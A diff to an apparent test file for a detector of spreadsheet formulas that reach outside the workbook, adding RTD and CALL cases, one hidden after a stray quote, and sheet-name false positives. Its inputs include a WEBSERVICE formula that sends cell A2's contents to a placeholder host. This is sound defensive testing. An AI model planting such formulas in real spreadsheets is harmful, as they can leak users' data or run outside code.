@@ -17,6 +17,9 @@ describe('calls that reach outside the workbook', () => {
     ['1+_xlfn.WEBSERVICE("http://a.example/?"&A2)', 'WEBSERVICE', 'fetches'],
     ['_xlfn.image("https://a.example/p.png")', 'IMAGE', 'fetches'],
     ['IF(A1,_xlfn._xlws.FILTER(A:A,B:B),Image\n(A2))', 'IMAGE', 'fetches'],
+    ['\'Run (2)\'!A1+RTD("x",,"y")', 'RTD', 'runs'],
+    // A lone quote closes no name: what follows it is still read.
+    ['A1&\'+CALL("k","W")', 'CALL', 'runs'],
   ])('%s calls %s', (formula, name, reach) => {
     expect(reachingCall(formula)).toEqual({ name, reach });
   });
@@ -28,6 +31,8 @@ describe('calls that reach outside the workbook', () => {
     'MYCALL(1)+IMAGES(2)+RTD2(3)',
     'HYPERLINK("https://www.miit.gov.cn/")',
     'RTD',
+    // Sheets Excel named as copies of sheets called Run, Image, Files.
+    "SUM('Run (2)'!A1:A3)+'Image (3)'!B2*'Bob''s Files (2)'!C1",
   ])('%s calls nothing that reaches out', (formula) => {
     expect(reachingCall(formula)).toBeUndefined();
   });
